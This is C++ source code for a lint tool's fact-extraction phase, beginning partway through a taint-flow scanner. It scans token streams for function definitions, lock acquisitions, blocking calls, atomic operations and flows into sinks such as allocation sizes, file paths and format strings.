  /// segment to `body(index, lo, hi)`.
  template <typename Fn>
  void for_each_arg(std::size_t open, std::size_t close, Fn&& body) {
    std::size_t begin = open + 1;
    int depth = 0;
    int index = 0;
    for (std::size_t m = open + 1; m <= close; ++m) {
      if (tok::is_punct(toks, m, "(") || tok::is_punct(toks, m, "[") ||
          tok::is_punct(toks, m, "{")) {
        ++depth;
      }
      if (tok::is_punct(toks, m, ")") || tok::is_punct(toks, m, "]") ||
          tok::is_punct(toks, m, "}")) {
        --depth;
      }
      if ((depth == 0 && tok::is_punct(toks, m, ",")) || m == close) {
        if (m > begin) body(index, begin, m);
        ++index;
        begin = m + 1;
      }
    }
  }

  bool is_container(const std::string& name) const {
    return sets.unordered.contains(name) || sets.ordered.contains(name) ||
           sets.sequences.contains(name);
  }

  void emit_edges() {
    for (std::size_t k = body_open + 1; k < body_close; ++k) {
      const Token& t = toks[k];
      if (t.in_pp || t.kind != TokKind::kIdent) continue;
      const std::uint32_t line = t.line;

      // `return expr;` — the summary's param/call → return flows.
      if (t.text == "return") {
        std::size_t end = k + 1;
        while (end < body_close && !tok::is_punct(toks, end, ";")) ++end;
        bool checked = false;
        const Origin o = scan_expr(k + 1, end, line, checked);
        FileFacts::FlowEdge proto;
        proto.kind = 'r';
        proto.line = line;
        emit(o, checked, proto);
        k = end;
        continue;
      }

      // `new T[size]` allocation.
      if (t.text == "new") {
        for (std::size_t m = k + 1; m < k + 8 && m < body_close; ++m) {
          if (tok::is_punct(toks, m, ";") || tok::is_punct(toks, m, "(")) break;
          if (!tok::is_punct(toks, m, "[")) continue;
          const std::size_t close = tok::match_forward(toks, m, "[", "]");
          if (close == tok::kNpos) break;
          bool checked = false;
          const Origin o = scan_expr(m + 1, close, line, checked);
          FileFacts::FlowEdge proto;
          proto.kind = 's';
          proto.sink = "alloc-size";
          proto.detail = "new[]";
          proto.line = line;
          emit(o, checked, proto);
          break;
        }
        continue;
      }

      const bool method = k > 0 && (tok::is_punct(toks, k - 1, ".") ||
                                    tok::is_punct(toks, k - 1, "->"));

      // Subscript sinks: `seq[expr]` indexing, `map_[expr]` keyed growth.
      if (!method && tok::is_punct(toks, k + 1, "[") && vars_or_container(t.text)) {
        const std::size_t close = tok::match_forward(toks, k + 1, "[", "]");
        if (close != tok::kNpos && close <= body_close) {
          bool checked = false;
          const Origin o = scan_expr(k + 2, close, line, checked);
          if (!o.empty()) {
            FileFacts::FlowEdge proto;
            proto.kind = 's';
            proto.line = line;
            proto.detail = t.text;
            if (sets.sequences.contains(t.text) || sets.strings.contains(t.text)) {
              proto.sink = "index";
              emit(o, checked, proto);
            } else if ((sets.unordered.contains(t.text) ||
                        sets.ordered.contains(t.text)) &&
                       member_shaped_name(t.text)) {
              proto.sink = "growth";
              emit(o, checked, proto);
            }
          }
        }
        continue;
      }

      // Call-shaped constructs.
      std::size_t open = tok::kNpos;
      if (tok::is_punct(toks, k + 1, "(")) {
        open = k + 1;
      } else if (tok::is_punct(toks, k + 1, "<")) {
        const std::size_t c = tok::skip_template_args(toks, k + 1);
        if (c != tok::kNpos && tok::is_punct(toks, c + 1, "(")) open = c + 1;
      }
      if (open == tok::kNpos) continue;
      const std::size_t close = tok::match_forward(toks, open, "(", ")");
      if (close == tok::kNpos || close > body_close) continue;

      if (method) {
        // Method sinks on a local/member container or receiver.
        const std::string recv = receiver_of(k);
        const std::string_view m = t.text;
        if ((m == "resize" || m == "reserve") && !recv.empty()) {
          sink_args(open, close, line, "alloc-size", recv);
        } else if ((m == "insert" || m == "emplace" || m == "try_emplace" ||
                    m == "push_back" || m == "emplace_back" || m == "append") &&
                   member_shaped_name(recv) && is_container(recv)) {
          sink_args(open, close, line, "growth", recv);
        } else if (m == "open") {
          sink_first_arg(open, close, line, "path", recv.empty() ? "open" : recv);
        }
        continue;
      }

      // Free-function sinks.
      if (t.text == "malloc" || t.text == "calloc" || t.text == "realloc") {
        sink_args(open, close, line, "alloc-size", std::string(t.text));
        continue;
      }
      if (t.text == "fopen" || t.text == "ifstream" || t.text == "ofstream" ||
          t.text == "fstream") {
        sink_first_arg(open, close, line, "path", std::string(t.text));
        continue;
      }
      const int fmt_arg = format_string_arg(t.text);
      if (fmt_arg >= 0) {
        for_each_arg(open, close, [&](int index, std::size_t lo, std::size_t hi) {
          if (index != fmt_arg) return;
          bool checked = false;
          const Origin o = scan_expr(lo, hi, line, checked);
          FileFacts::FlowEdge proto;
          proto.kind = 's';
          proto.sink = "format";
          proto.detail = t.text;
          proto.line = line;
          emit(o, checked, proto);
        });
        continue;
      }

      // Interprocedural arg-pass edges for resolvable callees.
      if (flow_callee(t.text) && !transparent_call(t.text)) {
        for_each_arg(open, close, [&](int index, std::size_t lo, std::size_t hi) {
          bool checked = false;
          const Origin o = scan_expr(lo, hi, line, checked);
          FileFacts::FlowEdge proto;
          proto.kind = 'a';
          proto.to_call = t.text;
          proto.to_arg = index;
          proto.line = line;
          emit(o, checked, proto);
        });
      }
    }
  }

  /// Variable-ish subscript bases: tracked locals and declared containers.
  bool vars_or_container(const std::string& name) const {
    return vars.contains(name) || is_container(name) || sets.strings.contains(name);
  }

  static bool member_shaped_name(std::string_view text) {
    return text.size() >= 2 && text.back() == '_' &&
           std::isdigit(static_cast<unsigned char>(text.front())) == 0;
  }

  std::string receiver_of(std::size_t method_idx) const {
    if (method_idx < 2) return {};
    if (!tok::is_punct(toks, method_idx - 1, ".") &&
        !tok::is_punct(toks, method_idx - 1, "->")) {
      return {};
    }
    const Token& r = toks[method_idx - 2];
    return r.kind == TokKind::kIdent ? r.text : std::string();
  }

  void sink_args(std::size_t open, std::size_t close, std::uint32_t line,
                 const char* sink, const std::string& detail) {
    for_each_arg(open, close, [&](int, std::size_t lo, std::size_t hi) {
      bool checked = false;
      const Origin o = scan_expr(lo, hi, line, checked);
      FileFacts::FlowEdge proto;
      proto.kind = 's';
      proto.sink = sink;
      proto.detail = detail;
      proto.line = line;
      emit(o, checked, proto);
    });
  }

  void sink_first_arg(std::size_t open, std::size_t close, std::uint32_t line,
                      const char* sink, const std::string& detail) {
    for_each_arg(open, close, [&](int index, std::size_t lo, std::size_t hi) {
      if (index != 0) return;
      bool checked = false;
      const Origin o = scan_expr(lo, hi, line, checked);
      FileFacts::FlowEdge proto;
      proto.kind = 's';
      proto.sink = sink;
      proto.detail = detail;
      proto.line = line;
      emit(o, checked, proto);
    });
  }
};

}  // namespace

void extract_flows(const Tokens& toks, std::size_t body_open, std::size_t body_close,
                   const DeclSets& sets, FileFacts::Function& fn) {
  if (body_close <= body_open) return;
  FlowScanner scanner{toks, body_open, body_close, sets, fn, {}, {}, {}};
  for (std::size_t p = 0; p < fn.params.size() && p < 32; ++p) {
    if (fn.params[p].empty()) continue;
    scanner.vars[fn.params[p]].params |= 1u << p;
  }
  scanner.harvest_checks();
  // Small fixpoint so chained locals (`auto a = src; auto b = a;`) and
  // loop-carried assignments converge; origins only grow, so three passes
  // bound all realistic chains without quadratic blowup.
  for (int iter = 0; iter < 3; ++iter) {
    if (!scanner.propagate_assignments()) break;
  }
  scanner.emit_edges();
}

}  // namespace at::lint::facts
