// Phase-1 fact extraction (see facts.hpp). The function scanner is the core:
// it walks the token stream once, tracking a class-name stack for qualified
// names, detects function definitions by `ident (params) trailer... {`, and
// scans each body for outgoing calls, LockGuard acquisitions, blocking
// sites, throw statements, and std::atomic operations. Lambda bodies are
// excluded from the enclosing function (deferred execution) unless the
// lambda is passed to ThreadPool::submit/parallel_for*, in which case it
// becomes a task pseudo-function (`task@<line>`) checked by noexcept-escape.

#include <algorithm>
#include <array>
#include <cctype>
#include <string>
#include <unordered_set>

#include "at_lint/facts.hpp"
#include "at_lint/token_util.hpp"

namespace at::lint::facts {

namespace {

using Tokens = std::vector<Token>;

bool all_macro_case(std::string_view text) {
  if (text.size() < 2) return false;
  for (const char c : text) {
    if (std::islower(static_cast<unsigned char>(c)) != 0) return false;
  }
  return true;
}

bool member_shaped(std::string_view text) {
  return text.size() >= 2 && text.back() == '_' &&
         std::isdigit(static_cast<unsigned char>(text.front())) == 0;
}

bool unordered_type(std::string_view text) {
  return text == "unordered_map" || text == "unordered_set" ||
         text == "unordered_multimap" || text == "unordered_multiset";
}

bool ordered_container_type(std::string_view text) {
  return text == "map" || text == "set" || text == "multimap" || text == "multiset" ||
         text == "priority_queue";
}

/// Sequence containers: deterministic iteration order, so a field of this
/// type with the same name as an unordered field elsewhere must block the
/// cross-TU determinism rule (any non-unordered declaration wins).
bool sequence_container_type(std::string_view text) {
  return text == "vector" || text == "deque" || text == "array" || text == "list" ||
         text == "forward_list" || text == "span";
}

/// Names never treated as a function being defined (control flow, casts,
/// fundamental types used as functional casts, contextual keywords).
bool never_a_function(std::string_view text) {
  static const std::unordered_set<std::string_view> kSet = {
      "if",       "for",      "while",    "switch",   "catch",    "return",
      "sizeof",   "alignof",  "alignas",  "decltype", "typeid",   "noexcept",
      "static_assert", "assert", "defined", "new",    "delete",   "throw",
      "using",    "namespace", "operator", "case",    "else",     "do",
      "goto",     "typename", "template", "requires", "concept",  "constexpr",
      "co_await", "co_return", "co_yield", "explicit", "bool",    "int",
      "char",     "void",     "auto",     "float",    "double",   "long",
      "short",    "unsigned", "signed"};
  return kSet.contains(text);
}

/// Call-site names that are never project functions worth an edge: control
/// keywords (shared with never_a_function) plus the highest-frequency std
/// container/string methods, which would otherwise dominate the fact
/// database without ever resolving to a project symbol. Project methods
/// that happen to reuse one of these names are trivial accessors by
/// convention, so losing their edges costs nothing.
bool never_a_call(std::string_view text) {
  static const std::unordered_set<std::string_view> kStd = {
      "push_back", "emplace_back", "emplace", "pop_back",  "front",   "back",
      "begin",     "end",          "cbegin",  "cend",      "rbegin",  "rend",
      "size",      "empty",        "find",    "count",     "at",      "clear",
      "insert",    "erase",        "reserve", "resize",    "contains", "swap",
      "push",      "pop",          "top",     "c_str",     "data",    "str",
      "substr",    "append",       "get",     "reset",     "release", "value",
      "has_value", "value_or",     "min",     "max",       "abs",     "move",
      "forward",   "make_unique",  "make_shared", "to_string", "string"};
  return never_a_function(text) || kStd.contains(text);
}

/// Blocking-call classification for the blocking-in-hot-path rule. Only
/// calls that can stall the calling thread: the snprintf family formats to
/// memory and is deliberately absent, and util::LockGuard is exempt by
/// design (uncontended locking IS the hot-path discipline here).
std::string_view blocking_category(std::string_view name) {
  static const std::unordered_set<std::string_view> kSleep = {
      "sleep", "usleep", "nanosleep", "sleep_for", "sleep_until"};
  static const std::unordered_set<std::string_view> kIo = {
      "printf", "fprintf", "vfprintf", "puts",   "fputs",  "fputc", "fgets",
      "fwrite", "fread",   "fopen",    "fclose", "fflush", "getline", "getchar",
      "system", "popen"};
  static const std::unordered_set<std::string_view> kAlloc = {"malloc", "calloc",
                                                              "realloc"};
  static const std::unordered_set<std::string_view> kWait = {
      "wait", "wait_for", "wait_until", "wait_idle", "join"};
  if (kSleep.contains(name)) return "sleep";
  if (kIo.contains(name)) return "io";
  if (kAlloc.contains(name)) return "alloc";
  if (kWait.contains(name)) return "wait";
  return {};
}

bool atomic_op_name(std::string_view text) {
  return text == "load" || text == "store" || text == "exchange" ||
         text == "fetch_add" || text == "fetch_sub" || text == "fetch_or" ||
         text == "fetch_and" || text == "fetch_xor" ||
         text == "compare_exchange_weak" || text == "compare_exchange_strong";
}

/// Explicit memory order named in a call's argument list, stripped of the
/// `memory_order_` prefix ("relaxed", "acquire", ...); empty when the call
/// relies on the seq_cst default.
std::string explicit_order(const Tokens& toks, std::size_t open, std::size_t close) {
  static constexpr std::string_view kPrefix = "memory_order_";
  for (std::size_t k = open + 1; k < close; ++k) {
    if (toks[k].kind != TokKind::kIdent) continue;
    const std::string_view text = toks[k].text;
    if (text.size() > kPrefix.size() && text.compare(0, kPrefix.size(), kPrefix) == 0) {
      return std::string(text.substr(kPrefix.size()));
    }
  }
  return {};
}

/// Names of std::atomic<...> variables declared in the stream (fields and
/// locals alike); the op extractor only records operations on these.
void harvest_atomic_fields(const TokenStream* stream,
                           std::unordered_set<std::string>& out) {
  if (stream == nullptr) return;
  const Tokens& toks = stream->tokens;
  for (std::size_t i = 0; i < toks.size(); ++i) {
    if (!tok::is_ident(toks, i, "atomic")) continue;
    std::size_t j = i + 1;
    if (tok::is_punct(toks, j, "<")) {
      const std::size_t close = tok::skip_template_args(toks, j);
      if (close == tok::kNpos) continue;
      j = close + 1;
    }
    while (tok::is_punct(toks, j, "*") || tok::is_punct(toks, j, "&")) ++j;
    if (j < toks.size() && toks[j].kind == TokKind::kIdent) out.insert(toks[j].text);
  }
}

/// Split the argument tokens of an annotation macro on top-level commas;
/// each segment is normalized with tok::spelling (drops `this->`).
void split_macro_args(const Tokens& toks, std::size_t open, std::size_t close,
                      std::vector<std::string>& out) {
  std::size_t begin = open + 1;
  int depth = 0;
  for (std::size_t k = open + 1; k <= close; ++k) {
    if (tok::is_punct(toks, k, "(") || tok::is_punct(toks, k, "[")) ++depth;
    if (tok::is_punct(toks, k, ")") || tok::is_punct(toks, k, "]")) --depth;
    if ((depth == 0 && tok::is_punct(toks, k, ",")) || k == close) {
      const std::string name = tok::spelling(toks, begin, k);
      if (!name.empty()) out.push_back(name);
      begin = k + 1;
    }
  }
}

/// One `if (...)` statement inside a function body, for the flag-guarded
/// read heuristic of atomic-order.
struct IfStmt {
  std::size_t cond_lo = 0, cond_hi = 0;  // token range of the condition
  std::size_t body_lo = 0, body_hi = 0;  // token range of the guarded body
};

void collect_if_stmts(const Tokens& toks, std::size_t body_open, std::size_t body_close,
                      std::vector<IfStmt>& out) {
  for (std::size_t k = body_open + 1; k < body_close; ++k) {
    if (!tok::is_ident(toks, k, "if") || toks[k].in_pp) continue;
    std::size_t open = k + 1;
    if (tok::is_ident(toks, open, "constexpr")) ++open;
    if (!tok::is_punct(toks, open, "(")) continue;
    const std::size_t cclose = tok::match_forward(toks, open, "(", ")");
    if (cclose == tok::kNpos || cclose >= body_close) continue;
    IfStmt stmt;
    stmt.cond_lo = open + 1;
    stmt.cond_hi = cclose;
    if (tok::is_punct(toks, cclose + 1, "{")) {
      const std::size_t bclose = tok::match_forward(toks, cclose + 1, "{", "}");
      if (bclose == tok::kNpos || bclose > body_close) continue;
      stmt.body_lo = cclose + 2;
      stmt.body_hi = bclose;
    } else {
      std::size_t e = cclose + 1;
      while (e < body_close && !tok::is_punct(toks, e, ";")) ++e;
      stmt.body_lo = cclose + 1;
      stmt.body_hi = e;
    }
    out.push_back(stmt);
  }
}

/// Scan one function body [body_open, body_close] into `fn`. Lambdas passed
/// to ThreadPool entry points recurse as task pseudo-functions appended to
/// `facts.functions`; other lambda bodies are skipped entirely.
void scan_body(const Tokens& toks, std::size_t body_open, std::size_t body_close,
               const std::unordered_set<std::string>& atomic_fields, FileFacts& facts,
               FileFacts::Function& fn) {
  struct Held {
    std::string expr;
    int depth;
  };
  std::vector<Held> held;
  int depth = 0;
  std::vector<char> block_is_try;
  std::size_t try_depth = 0;
  bool pending_try = false;

  std::vector<IfStmt> if_stmts;
  collect_if_stmts(toks, body_open, body_close, if_stmts);
  const auto guards_other_member = [&](std::size_t op_idx, const std::string& object) {
    for (const IfStmt& stmt : if_stmts) {
      if (op_idx < stmt.cond_lo || op_idx >= stmt.cond_hi) continue;
      for (std::size_t m = stmt.body_lo; m < stmt.body_hi; ++m) {
        if (toks[m].kind == TokKind::kIdent && member_shaped(toks[m].text) &&
            toks[m].text != object) {
          return true;
        }
      }
    }
    return false;
  };

  for (std::size_t k = body_open + 1; k < body_close; ++k) {
    const Token& t = toks[k];
    if (t.in_pp) continue;
    if (t.kind == TokKind::kPunct) {
      if (t.text == "{") {
        block_is_try.push_back(pending_try ? 1 : 0);
        if (pending_try) ++try_depth;
        pending_try = false;
        ++depth;
      } else if (t.text == "}") {
        --depth;
        while (!held.empty() && held.back().depth > depth) held.pop_back();
        if (!block_is_try.empty()) {
          if (block_is_try.back() != 0) --try_depth;
          block_is_try.pop_back();
        }
      } else if (t.text == "[") {
        const std::size_t b = tok::lambda_body(toks, k);
        if (b != tok::kNpos && b < body_close) {
          const std::size_t e = tok::match_forward(toks, b, "{", "}");
          if (e != tok::kNpos && e <= body_close) {
            // A lambda handed to the thread pool runs later on a worker
            // thread: it is its own root for noexcept-escape, and its
            // contents must not leak into the enclosing function's facts.
            bool is_task = false;
            for (std::size_t back = k >= 8 ? k - 8 : 0; back < k; ++back) {
              if (toks[back].kind == TokKind::kIdent &&
                  (toks[back].text == "submit" || toks[back].text == "parallel_for" ||
                   toks[back].text == "parallel_for_chunked") &&
                  tok::is_punct(toks, back + 1, "(")) {
                is_task = true;
                break;
              }
            }
            if (is_task) {
              FileFacts::Function tfn;
              tfn.name = "task@" + std::to_string(toks[k].line);
              tfn.line = toks[k].line;
              tfn.is_task = true;
              scan_body(toks, b, e, atomic_fields, facts, tfn);
              facts.functions.push_back(std::move(tfn));
            }
            k = e;
          }
        }
      }
      continue;
    }
    if (t.kind != TokKind::kIdent) continue;
    if (t.text == "try") {
      pending_try = true;
      continue;
    }
    if (t.text == "throw") {
      // `throw;` rethrows an in-flight exception (only reachable inside a
      // handler); a throw lexically inside a try block is presumed caught.
      if (!tok::is_punct(toks, k + 1, ";") && try_depth == 0) {
        fn.throw_lines.push_back(t.line);
      }
      continue;
    }
    if (t.text == "LockGuard") {
      std::size_t j = k + 1;
      if (j < body_close && toks[j].kind == TokKind::kIdent) ++j;
      const bool paren = tok::is_punct(toks, j, "(");
      const bool brace = tok::is_punct(toks, j, "{");
      if (paren || brace) {
        const std::size_t close = paren ? tok::match_forward(toks, j, "(", ")")
                                        : tok::match_forward(toks, j, "{", "}");
        if (close != tok::kNpos && close <= body_close) {
          const std::string expr = tok::spelling(toks, j + 1, close);
          if (!expr.empty()) {
            if (std::find(fn.acquires.begin(), fn.acquires.end(), expr) ==
                fn.acquires.end()) {
              fn.acquires.push_back(expr);
            }
            held.push_back({expr, depth});
            k = close;
            continue;
          }
        }
      }
      continue;
    }
    // Atomic operation: `<atomic-var> . <op> ( ... )`.
    if (atomic_fields.contains(t.text) && tok::is_punct(toks, k + 1, ".") &&
        k + 2 < body_close && toks[k + 2].kind == TokKind::kIdent &&
        atomic_op_name(toks[k + 2].text) && tok::is_punct(toks, k + 3, "(")) {
      const std::size_t close = tok::match_forward(toks, k + 3, "(", ")");
      if (close != tok::kNpos && close <= body_close) {
        FileFacts::AtomicOp op;
        op.object = t.text;
        op.op = toks[k + 2].text;
        op.order = explicit_order(toks, k + 3, close);
        op.line = t.line;
        op.deref = tok::is_punct(toks, close + 1, "->") ||
                   (k >= 1 && tok::is_punct(toks, k - 1, "*") &&
                    (k < 2 || toks[k - 2].kind == TokKind::kPunct ||
                     tok::is_ident(toks, k - 2, "return")));
        if (op.op == "load") op.guards_other = guards_other_member(k, op.object);
        fn.atomics.push_back(std::move(op));
        k = close;
        continue;
      }
    }
    // Call site: ident directly followed by '('.
    if (tok::is_punct(toks, k + 1, "(")) {
      const std::string_view cat = blocking_category(t.text);
      if (!cat.empty()) {
        fn.blocking.push_back({std::string(cat), t.text, t.line});
      }
      if (!never_a_call(t.text) && !all_macro_case(t.text)) {
        FileFacts::CallSite cs;
        cs.name = t.text;
        cs.line = t.line;
        cs.in_try = try_depth > 0;
        for (const Held& h : held) cs.held.push_back(h.expr);
        fn.calls.push_back(std::move(cs));
      }
      continue;
    }
    // Bare blocking identifiers: stream objects and file-stream types.
    if (t.text == "cout" || t.text == "cerr" || t.text == "clog" ||
        t.text == "ifstream" || t.text == "ofstream" || t.text == "fstream") {
      fn.blocking.push_back({"io", t.text, t.line});
    }
  }
}

/// Parse the trailer between a candidate's `)` and its body/terminator.
/// Returns false when the construct is not a function after all.
struct Trailer {
  bool is_definition = false;
  std::size_t body_open = tok::kNpos;
  std::size_t resume = tok::kNpos;  // token index to continue scanning from
};

bool parse_trailer(const Tokens& toks, std::size_t params_close,
                   FileFacts::Function& fn, Trailer& tr) {
  std::size_t j = params_close + 1;
  for (int steps = 0; steps < 64 && j < toks.size(); ++steps) {
    const Token& t = toks[j];
    if (t.kind == TokKind::kIdent) {
      if (t.text == "const" || t.text == "override" || t.text == "final" ||
          t.text == "volatile" || t.text == "mutable" || t.text == "inline" ||
          t.text == "try") {
        ++j;
        continue;
      }
      if (t.text == "noexcept") {
        fn.is_noexcept = true;
        ++j;
        if (tok::is_punct(toks, j, "(")) {
          const std::size_t c = tok::match_forward(toks, j, "(", ")");
          if (c == tok::kNpos) return false;
          for (std::size_t m = j + 1; m < c; ++m) {
            if (tok::is_ident(toks, m, "false")) fn.is_noexcept = false;
          }
          j = c + 1;
        }
        continue;
      }
      if (all_macro_case(t.text)) {
        const bool is_hot = t.text == "AT_HOT";
        const bool is_acq = t.text == "AT_ACQUIRES";
        if (is_hot) fn.hot = true;
        if (t.text == "AT_UNTRUSTED") fn.untrusted = true;
        if (t.text == "AT_SANITIZES") fn.sanitizes = true;
        ++j;
        if (tok::is_punct(toks, j, "(")) {
          const std::size_t c = tok::match_forward(toks, j, "(", ")");
          if (c == tok::kNpos) return false;
          if (is_acq) split_macro_args(toks, j, c, fn.acquires);
          j = c + 1;
        }
        continue;
      }
      return false;
    }
    if (t.kind != TokKind::kPunct) return false;
    if (t.text == "{") {
      tr.is_definition = true;
      tr.body_open = j;
      return true;
    }
    if (t.text == ";" || t.text == "=") {
      tr.resume = j;
      return true;  // declaration (or `= default` / `= delete` / `= 0`)
    }
    if (t.text == "->") {
      // Trailing return type: skip to the body or terminator at top level.
      ++j;
      for (int steps2 = 0; steps2 < 64 && j < toks.size(); ++steps2) {
        if (tok::is_punct(toks, j, "{") || tok::is_punct(toks, j, ";")) break;
        if (tok::is_punct(toks, j, "(")) {
          const std::size_t c = tok::match_forward(toks, j, "(", ")");
          if (c == tok::kNpos) return false;
          j = c + 1;
          continue;
        }
        if (tok::is_punct(toks, j, "<")) {
          const std::size_t c = tok::skip_template_args(toks, j);
          j = c == tok::kNpos ? j + 1 : c + 1;
          continue;
        }
        ++j;
      }
      continue;
    }
    if (t.text == ":") {
      // Constructor init list: `name (args)` / `name {args}` groups.
      ++j;
      for (int groups = 0; groups < 32 && j < toks.size(); ++groups) {
        while (j < toks.size() &&
               (toks[j].kind == TokKind::kIdent || tok::is_punct(toks, j, "::"))) {
          ++j;
        }
        if (tok::is_punct(toks, j, "<")) {
          const std::size_t c = tok::skip_template_args(toks, j);
          if (c != tok::kNpos) j = c + 1;
        }
        std::size_t c = tok::kNpos;
        if (tok::is_punct(toks, j, "(")) c = tok::match_forward(toks, j, "(", ")");
        else if (tok::is_punct(toks, j, "{")) c = tok::match_forward(toks, j, "{", "}");
        if (c == tok::kNpos) return false;
        j = c + 1;
        if (!tok::is_punct(toks, j, ",")) break;
        ++j;
      }
      continue;
    }
    return false;
  }
  return false;
}

/// Positional parameter names from the list between `open` and `close`
/// (the '(' and ')' tokens). Heuristic: per top-level comma segment, the
/// declared name is the last identifier before any '=' default — type
/// keywords and template arguments are skipped structurally. Unnamed or
/// unrecognized parameters contribute "" so positions stay aligned.
void extract_params(const Tokens& toks, std::size_t open, std::size_t close,
                    std::vector<std::string>& out) {
  if (close <= open + 1) return;  // ()
  std::size_t begin = open + 1;
  int depth = 0;
  for (std::size_t k = open + 1; k <= close; ++k) {
    if (tok::is_punct(toks, k, "(") || tok::is_punct(toks, k, "[") ||
        tok::is_punct(toks, k, "{")) {
      ++depth;
    }
    if (tok::is_punct(toks, k, ")") || tok::is_punct(toks, k, "]") ||
        tok::is_punct(toks, k, "}")) {
      --depth;
    }
    if ((depth == 0 && tok::is_punct(toks, k, ",")) || k == close) {
      std::string name;
      for (std::size_t m = begin; m < k; ++m) {
        if (tok::is_punct(toks, m, "=")) break;  // default argument
        if (tok::is_punct(toks, m, "<")) {
          const std::size_t c = tok::skip_template_args(toks, m);
          if (c != tok::kNpos && c < k) m = c;
          continue;
        }
        if (toks[m].kind == TokKind::kIdent && !never_a_function(toks[m].text)) {
          name = toks[m].text;
        }
      }
      if (name == "void") name.clear();
      // Unnamed parameters keep a placeholder so arity (and therefore the
      // taint bitmask positions) survives the cache round-trip, where an
      // empty one-element list is indistinguishable from an empty list.
      out.push_back(name.empty() ? "_" : std::move(name));
      begin = k + 1;
    }
  }
  if (out.size() == 1 && out[0] == "_") out.clear();  // f(void) / f()
}

/// Harvest bounded-growth evidence into facts.bounded_fields: an
/// AT_BOUNDED marker after a field declaration blesses the nearest
/// preceding identifier; eviction calls (erase/pop_front/pop_back/clear)
/// on a member-shaped variable bless it too — the linker unions the lists
/// project-wide, so eviction in one TU covers growth sites in another.
void harvest_bounded_fields(const TokenStream& ts, FileFacts& facts) {
  const Tokens& toks = ts.tokens;
  std::unordered_set<std::string> seen;
  const auto add = [&](const std::string& name) {
    if (!name.empty() && seen.insert(name).second) facts.bounded_fields.push_back(name);
  };
  for (std::size_t i = 0; i < toks.size(); ++i) {
    const Token& t = toks[i];
    if (t.kind != TokKind::kIdent || t.in_pp) continue;
    if (t.text == "AT_BOUNDED") {
      for (std::size_t k = i; k-- > 0;) {
        if (toks[k].kind == TokKind::kIdent) {
          add(toks[k].text);
          break;
        }
        if (tok::is_punct(toks, k, ";") || tok::is_punct(toks, k, "{")) break;
      }
      continue;
    }
    if (member_shaped(t.text) && tok::is_punct(toks, i + 1, ".") &&
        i + 2 < toks.size() && toks[i + 2].kind == TokKind::kIdent &&
        tok::is_punct(toks, i + 3, "(")) {
      const std::string_view m = toks[i + 2].text;
      if (m == "erase" || m == "pop_front" || m == "pop_back" || m == "clear") {
        add(t.text);
      }
    }
  }
}

/// The function-definition scanner (see file comment).
void extract_functions(const TokenStream& ts, const TokenStream* sibling,
                       const DeclSets& sets, FileFacts& facts) {
  const Tokens& toks = ts.tokens;
  std::unordered_set<std::string> atomic_fields;
  harvest_atomic_fields(&ts, atomic_fields);
  harvest_atomic_fields(sibling, atomic_fields);

  struct ClassFrame {
    std::string name;
    int depth;  // brace depth inside the class body
  };
  std::vector<ClassFrame> classes;
  int depth = 0;

  for (std::size_t i = 0; i < toks.size(); ++i) {
    const Token& t = toks[i];
    if (t.in_pp) continue;
    if (t.kind == TokKind::kPunct) {
      if (t.text == "{") {
        ++depth;
      } else if (t.text == "}") {
        --depth;
        while (!classes.empty() && classes.back().depth > depth) classes.pop_back();
      }
      continue;
    }
    if (t.kind != TokKind::kIdent) continue;

    if (t.text == "class" || t.text == "struct") {
      // Not a type definition when it is a template parameter, a template
      // argument, or an enum-class head.
      if (i > 0 && (tok::is_punct(toks, i - 1, "<") || tok::is_punct(toks, i - 1, ",") ||
                    tok::is_ident(toks, i - 1, "enum") ||
                    tok::is_ident(toks, i - 1, "typename"))) {
        continue;
      }
      std::size_t j = i + 1;
      std::string name;
      while (j < toks.size() && toks[j].kind == TokKind::kIdent &&
             toks[j].text != "final") {
        name = toks[j].text;
        ++j;
      }
      if (name.empty()) continue;
      std::size_t k = j;
      for (int steps = 0; steps < 64 && k < toks.size(); ++steps, ++k) {
        if (tok::is_punct(toks, k, "{")) {
          classes.push_back({name, depth + 1});
          break;
        }
        if (tok::is_punct(toks, k, ";")) break;  // forward declaration
      }
      i = j - 1;
      continue;
    }

    // Function candidate: `ident (` with a sane name.
    if (!tok::is_punct(toks, i + 1, "(")) continue;
    if (never_a_function(t.text) || all_macro_case(t.text)) continue;
    const std::size_t params_close = tok::match_forward(toks, i + 1, "(", ")");
    if (params_close == tok::kNpos) continue;

    FileFacts::Function fn;
    Trailer tr;
    if (!parse_trailer(toks, params_close, fn, tr)) continue;

    const bool dtor = i > 0 && tok::is_punct(toks, i - 1, "~");
    std::string name = dtor ? "~" + t.text : t.text;
    std::string qual;
    if (dtor) {
      if (i >= 3 && tok::is_punct(toks, i - 2, "::") &&
          toks[i - 3].kind == TokKind::kIdent) {
        qual = toks[i - 3].text;
      }
    } else if (i >= 2 && tok::is_punct(toks, i - 1, "::") &&
               toks[i - 2].kind == TokKind::kIdent) {
      qual = toks[i - 2].text;
    }
    if (qual.empty() && !classes.empty()) qual = classes.back().name;
    fn.name = qual.empty() ? name : qual + "::" + name;
    fn.is_dtor = dtor;
    fn.line = t.line;

    if (!tr.is_definition) {
      // Declarations only matter when they carry annotations the linker
      // must union into the definition's summary (AT_ACQUIRES on a header
      // prototype whose definition lives out of reach, AT_HOT roots,
      // AT_UNTRUSTED taint sources, AT_SANITIZES taint clears).
      if (fn.hot || !fn.acquires.empty() || fn.untrusted || fn.sanitizes) {
        facts.functions.push_back(std::move(fn));
      }
      if (tr.resume != tok::kNpos) i = tr.resume - 1;
      continue;
    }
    const std::size_t body_close = tok::match_forward(toks, tr.body_open, "{", "}");
    if (body_close == tok::kNpos) continue;
    extract_params(toks, i + 1, params_close, fn.params);
    scan_body(toks, tr.body_open, body_close, atomic_fields, facts, fn);
    extract_flows(toks, tr.body_open, body_close, sets, fn);
    facts.functions.push_back(std::move(fn));
    i = body_close;
  }
}

}  // namespace

void harvest_decls(const TokenStream* stream, DeclSets& sets,
                   std::vector<FileFacts::ContainerField>* fields) {
  if (stream == nullptr) return;
  const Tokens& toks = stream->tokens;
  // Index of the declared variable after a type ending at `type_end`, or
  // kNpos when the shape does not look like a declaration.
  const auto var_after_type = [&toks](std::size_t type_end) -> std::size_t {
    std::size_t j = type_end;
    while (tok::is_punct(toks, j, "*") || tok::is_punct(toks, j, "&") ||
           tok::is_punct(toks, j, "&&") || tok::is_ident(toks, j, "const")) {
      ++j;
    }
    if (j >= toks.size() || toks[j].kind != TokKind::kIdent) return tok::kNpos;
    static constexpr std::array<std::string_view, 7> kEnders = {";", "=", "{", "(",
                                                                ",", ")", ":"};
    const std::string_view after =
        j + 1 < toks.size() ? std::string_view(toks[j + 1].text) : std::string_view(";");
    for (const auto e : kEnders) {
